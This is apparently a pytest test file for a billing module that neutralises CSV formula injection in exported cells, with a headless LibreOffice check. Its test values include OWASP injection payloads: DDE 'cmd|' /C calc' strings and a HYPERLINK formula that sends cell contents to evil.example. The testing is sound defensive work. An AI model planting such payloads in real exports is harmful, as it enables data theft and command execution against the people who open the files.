"""CSV cells a spreadsheet opens as text (billing/cells.py): what is quoted, and that every value reads back."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from billing.cells import from_cell, to_cell, write_rows
from billing.exchange import write_table

# OWASP's CSV Injection examples, the characters it names, and values that look alike but are not formulas.
VALUES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+49 30 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTab first",
    "\rCR first",
    "'=already quoted",
    "''=twice",
    "'s-Hertogenbosch",
    "O'Brien",
    "-12.50",
    "+3",
    "1e5",
    "plain",
    "",
    "a=b",
]


@pytest.mark.parametrize("value", VALUES)
def test_every_value_reads_back_as_it_was(value: str) -> None:
    cell = to_cell(value)
    assert isinstance(cell, str)
    assert from_cell(cell) == value


def test_a_formula_gets_a_leading_quote_and_numbers_and_text_stay_as_they_are() -> None:
    quoted = {value for value in VALUES if to_cell(value) != value}
    assert quoted == set(VALUES[:9])
    assert all(str(to_cell(value)).startswith("'") for value in quoted)
    assert to_cell(-12) == -12  # not a string: a number is a number


def test_written_rows_hold_no_cell_a_spreadsheet_would_run() -> None:
    out = io.StringIO()
    write_rows(out, ["name", "amount"], [[value, "-1.5"] for value in VALUES])
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    runnable = [row[0] for row in rows if row[0][:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert runnable == ["-12.50", "+3"]  # numbers only
    assert {row[1] for row in rows} == {"-1.5"}


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (apt: libreoffice-calc-nogui) not installed")
def test_libreoffice_opens_an_exported_formula_as_text(tmp_path: Path) -> None:
    """What a spreadsheet does with the file, not what we think it does: LibreOffice Calc opens it headless."""
    link = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
    (tmp_path / "customers.csv").write_bytes(
        write_table(["code", "legal_name"], [{"code": "EVIL", "legal_name": link}])
    )
    subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "customers.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    sheet = (tmp_path / "customers.fods").read_text()
    assert "table:formula" not in sheet  # the cell is not a formula ...
    assert "HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2" in sheet  # ... but its text
